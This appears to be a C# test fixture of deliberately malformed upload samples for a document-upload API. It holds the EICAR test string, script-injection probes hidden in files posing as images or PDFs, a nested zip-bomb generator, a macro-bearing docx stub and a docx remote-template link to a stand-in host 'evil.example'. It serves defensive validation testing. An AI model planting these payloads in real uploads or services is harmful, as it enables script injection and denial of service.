using System.IO.Compression;
using static Zhengwu.Api.Tests.Uploads.Corpus;

namespace Zhengwu.Api.Tests.Uploads;

/// <summary>What is no picture and no PDF at all, or says it is another kind than it is.</summary>
public static class CorpusOthers
{
    public const string Eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

    public static readonly IReadOnlyList<Sample> All =
    [
        new("empty", Jpeg, () => []),
        new("one-byte", Jpeg, () => [0xFF]),
        new("zeros", Png, () => new byte[4096]),
        new("noise", Pdf, () => Noise(4096)),
        new("eicar-as-jpeg", Jpeg, () => Ascii(Eicar)),
        new("eicar-as-pdf", Pdf, () => Ascii(Eicar)),
        new("html-as-jpeg", Jpeg, () => Ascii("<!doctype html><script>alert(1)</script>")),
        new("html-as-pdf", Pdf, () => Ascii("<!doctype html><script>alert(1)</script>")),
        new("script-as-png", Png, () => Ascii("alert(document.cookie)")),
        new("svg-as-png", Png, () => Ascii("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")),
        new("svg-as-svg", "image/svg+xml", () => Ascii("<svg xmlns='http://www.w3.org/2000/svg'/>")),
        new("html-as-html", "text/html", () => Ascii("<p>")),
        new("jpeg-as-png", Png, () => Find("jpeg-from-canvas")),
        new("jpeg-as-pdf", Pdf, () => Find("jpeg-from-canvas")),
        new("png-as-jpeg", Jpeg, () => Find("png-sample-page")),
        new("png-as-pdf", Pdf, () => Find("png-sample-page")),
        new("pdf-as-jpeg", Jpeg, () => Find("pdf-scanner-jpeg-pages")),
        new("pdf-as-png", Png, () => Find("pdf-scanner-jpeg-pages")),
        new("jpeg-as-octets", "application/octet-stream", () => Find("jpeg-from-canvas")),
        new("pdf-as-html", "text/html", () => Find("pdf-scanner-jpeg-pages")),
        new("png-as-form", "multipart/form-data", () => Find("png-sample-page")),
        new("gif-as-jpeg", Jpeg, () => Ascii("GIF89a\u0001\0\u0001\0\0\0\0;")),
        new("gifar-as-png", Png, () => Join(Ascii("GIF89a\u0001\0\u0001\0\0\0\0;"), Zip(("evil.class", Ascii("x"))))),
        new("webp-as-jpeg", Jpeg, () => Join(Ascii("RIFF\u0010\0\0\0WEBPVP8 "), new byte[16])),
        new("heic-as-jpeg", Jpeg, () => Join(Big(24), Ascii("ftypheic"), new byte[12])),
        new("bmp-as-png", Png, () => Join(Ascii("BM"), new byte[100])),
        new("tiff-as-jpeg", Jpeg, () => Join(Ascii("II*\0\b\0\0\0"), new byte[100])),
        new("exe-as-pdf", Pdf, () => Join(Ascii("MZ"), new byte[510])),
        new("zip-as-pdf", Pdf, () => Zip(("a.pdf", Ascii("%PDF-1.4")))),
        new("zip-bomb-as-pdf", Pdf, () => Bomb(1)),
        new("nested-zip-bomb-as-png", Png, () => Bomb(3)),
        new("quine-like-gzip-as-jpeg", Jpeg, () => Join([0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3], Noise(200))),
        new("docx-with-macro-as-pdf", Pdf, () => Zip(("[Content_Types].xml", Ascii("<Types/>")), ("word/vbaProject.bin", Noise(500)))),
        new("docx-with-template-as-pdf", Pdf, () => Zip(("word/_rels/settings.xml.rels", Ascii("<Relationship Target='http://evil.example/x.dotm' TargetMode='External'/>")))),
        new("ole-doc-as-pdf", Pdf, () => Join([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1], new byte[504])),
    ];

    public static byte[] Zip(params (string Name, byte[] Bytes)[] entries)
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var (name, content) in entries)
            {
                using var entry = zip.CreateEntry(name).Open();
                entry.Write(content);
            }
        return bytes.ToArray();
    }

    /// <summary>Twenty megabytes of zeros, packed and packed again.</summary>
    private static byte[] Bomb(int times)
    {
        var inner = Zip(("0", new byte[20_000_000]));
        for (var i = 1; i < times; i++) inner = Zip([.. Enumerable.Range(0, 10).Select(n => ($"{n}.zip", inner))]);
        return inner;
    }
}
